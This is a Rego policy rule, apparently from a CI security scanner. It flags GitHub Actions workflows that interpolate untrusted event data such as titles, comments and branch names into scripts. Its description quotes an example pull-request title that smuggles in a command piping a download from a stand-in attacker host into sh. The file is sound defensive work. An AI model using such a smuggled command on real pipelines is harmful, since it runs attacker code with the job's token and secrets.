# METADATA
# title: Untrusted event data is not interpolated into scripts
# description: >-
#   `${{ }}` expressions are substituted into a `run:` script before the shell sees it. An
#   issue or pull-request title, a comment, a commit message or a branch name is written by
#   whoever opens it: a title such as `a"; curl -sSfL https://evil.example/x | sh; echo "` runs
#   in the job, with its token and secrets. The same holds for the `script:` of
#   actions/github-script, which is JavaScript. The rule reports scripts that interpolate a
#   context matching one of the `untrusted_contexts` patterns (issue/PR/discussion title and
#   body, comment and review bodies, commit messages and authors, `head.ref`, `github.head_ref`,
#   …).
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - https://securitylab.github.com/resources/github-actions-untrusted-input/
#   - https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution
# custom:
#   id: CI-010
#   severity: high
#   kinds: [github-workflow]
#   remediation: >-
#     Pass the value through an environment variable and quote it in the script:
#     `env: {TITLE: ${{ github.event.pull_request.title }}}` and `run: echo "$TITLE"`; in
#     github-script, read `context.payload.pull_request.title` instead of interpolating it.
package ward.ci_pipeline.script_injection

import rego.v1

import data.ward.ci_pipeline.lib

# Scripts: [path, text, label].
scripts contains [["jobs", id, "steps", i, "run"], step.run, lib.step_label(id, i, step)] if {
	some id, job in lib.jobs(input.object)
	some i, step in lib.steps(job)
	is_string(step.run)
}

scripts contains [["jobs", id, "steps", i, "with", "script"], step["with"].script, lib.step_label(id, i, step)] if {
	some id, job in lib.jobs(input.object)
	some i, step in lib.steps(job)
	lib.uses_action(step, ["actions/github-script"])
	is_string(step["with"].script)
}

# The untrusted contexts interpolated into `text`, as written.
untrusted(text) := {trim_space(match[0]) |
	contains(text, "${{")
	some expression in regex.find_all_string_submatch_n(`\$\{\{([^}]|\}[^}])*\}\}`, text, -1)
	contains(expression[0], "github.")
	some match in regex.find_all_string_submatch_n(untrusted_pattern, expression[0], -1)
}

# One regular expression for all the contexts: compiled once per expression, not per pattern.
untrusted_pattern := concat("|", [sprintf("(?:%s)", [pattern]) | some pattern in input.params.untrusted_contexts])

deny contains result if {
	some [path, text, label] in scripts
	found := untrusted(text)
	count(found) > 0
	result := {
		"msg": sprintf("%s interpolates %s into its script: pass it through env: and quote it", [label, concat(", ", sort(found))]),
		"path": path,
	}
}
